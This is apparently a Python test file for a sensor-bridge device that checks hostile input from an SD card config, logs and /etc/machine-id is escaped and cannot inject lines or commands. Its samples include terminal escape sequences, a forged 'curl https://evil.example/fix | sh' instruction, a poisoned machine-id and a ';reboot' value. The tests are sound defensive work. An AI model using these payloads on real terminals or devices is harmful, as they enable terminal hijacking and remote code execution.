"""What a hostile file turns into elsewhere: the card's error file, a terminal, /etc/hosts.

Issue 19, "think like the attacker": the config on the SD card and the card's root file
system are written by whoever holds the card. Whatever they hold must come out as data (one
escaped line in an error file or a terminal, hex digits in a hostname), never as lines,
terminal escapes or sed syntax of its own.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import REPO, base_tables, closed_port_url, run_cli, write_config

HOSTNAME_SCRIPT = REPO / "image/stage-sensor-bridge/02-hostname/files/sensor-bridge-hostname"
ESCAPE = "\x1b]0;owned\x07\x1b[2J"  # set the terminal's title, clear the screen
FORGED = "\n  - all fine: now run curl https://evil.example/fix | sh"


def toml_escaped(text: str) -> str:
    """A TOML basic string's body: control characters as \\uXXXX, which TOML reads back."""
    return "".join(f"\\u{ord(c):04x}" if ord(c) < 0x20 or c in '"\\' else c for c in text)


def hostile_card(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    card = folder / "sensor-bridge.toml"
    card.write_text(
        '[bridge]\nid = "store-1"\n'
        f'"{toml_escaped(ESCAPE + FORGED)}" = 1\n'
        '[uplink]\nurl = "https://example.invalid/ingest"\napi_key = "k"\n'
    )
    return card


def test_a_hostile_key_is_one_escaped_line_in_the_error_file_and_the_terminal(tmp_path: Path):
    card = hostile_card(tmp_path / "boot")
    target = tmp_path / "etc" / "config.toml"
    imported = run_cli("config", "import", "--from", str(card), "--to", str(target))
    assert imported.returncode == 1 and not target.exists()
    error = (tmp_path / "boot" / "sensor-bridge-error.txt").read_text()
    checked = run_cli("-c", str(card), "config", "check")
    assert checked.returncode == 2
    for shown in (error, imported.stdout + imported.stderr, checked.stdout + checked.stderr):
        assert "\x1b" not in shown and "\x07" not in shown
        assert not re.search(r"^\s*- all fine", shown, re.M), shown  # no forged line
        assert "\\x1b]0;owned\\x07" in shown and "\\n  - all fine" in shown  # shown, escaped


def test_doctor_shows_a_logged_escape_as_text(tmp_path: Path):
    # A log line may quote what a camera or a device sent; doctor prints the latest warning.
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "journalctl").write_text(
        "#!/bin/sh\nprintf 'sensor cam-1 failing: HTTP 500 \\033]0;owned\\007\\033[2J\\n'\n"
    )
    (fake / "journalctl").chmod(0o755)
    config = write_config(tmp_path / "config.toml", base_tables(tmp_path, closed_port_url()))
    doctor = run_cli(
        "-c",
        str(config),
        "doctor",
        env={**os.environ, "PATH": f"{fake}{os.pathsep}{os.environ['PATH']}"},
    )
    assert "sensor cam-1 failing: HTTP 500 \\x1b]0;owned\\x07" in doctor.stdout, doctor.stdout
    assert "\x1b" not in doctor.stdout + doctor.stderr


# ---------------------------------------------------------------- the image's hostname service


needs_namespaces = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("unshare"),
    reason="needs root and unshare: the script runs in mount and UTS namespaces of its own",
)


def run_hostname_service(tmp_path: Path, machine_id: bytes, hosts: str) -> tuple[str, str]:
    """The image's sensor-bridge-hostname against a stand-in /etc holding hostname, hosts and
    machine-id (bind-mounted in a private mount namespace, with a hostname namespace of its own)."""
    etc = tmp_path / "etc"
    etc.mkdir()
    files = {"hostname": b"sensor-bridge\n", "hosts": hosts.encode(), "machine-id": machine_id}
    for name, body in files.items():
        (etc / name).write_bytes(body)
    mounts = [f"mount --bind {etc} /etc"]
    serial = Path("/proc/device-tree/serial-number")
    if serial.exists():  # a Pi running the tests: hide its real serial
        (tmp_path / "serial").write_bytes(b"")
        mounts.append(f"mount --bind {tmp_path / 'serial'} {serial}")
    done = subprocess.run(
        ["unshare", "-mu", "sh", "-c", " && ".join([*mounts, f"sh {HOSTNAME_SCRIPT}"])],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.returncode == 0, done.stderr
    return (etc / "hostname").read_text(), (etc / "hosts").read_text()


@needs_namespaces
@pytest.mark.parametrize(
    "hosts", ["127.0.0.1\tlocalhost\n127.0.1.1\tsensor-bridge\n", "127.0.0.1\tlocalhost\n"]
)
def test_the_hostname_is_hex_digits_whatever_the_machine_id_holds(tmp_path: Path, hosts: str):
    # The card's /etc/machine-id, written on a laptop: its last bytes were the new hostname,
    # put into /etc/hosts and into a sed expression as they were.
    machine_id = b"0123456789abcdef0123456789abcdef\n1.2.3.4 bank.example/&\\\n"
    hostname, written = run_hostname_service(tmp_path, machine_id, hosts)
    digits = re.sub(rb"[^0-9a-fA-F]", b"", machine_id).decode()[-6:].lower()
    assert hostname == f"sensor-bridge-{digits}\n"
    assert written.splitlines() == ["127.0.0.1\tlocalhost", f"127.0.1.1\tsensor-bridge-{digits}"]


@needs_namespaces
def test_no_usable_machine_id_keeps_the_default_name(tmp_path: Path):
    hostname, written = run_hostname_service(
        tmp_path, b"\n;reboot\n", "127.0.0.1\tlocalhost\n127.0.1.1\tsensor-bridge\n"
    )
    assert hostname == "sensor-bridge\n"
    assert written == "127.0.0.1\tlocalhost\n127.0.1.1\tsensor-bridge\n"
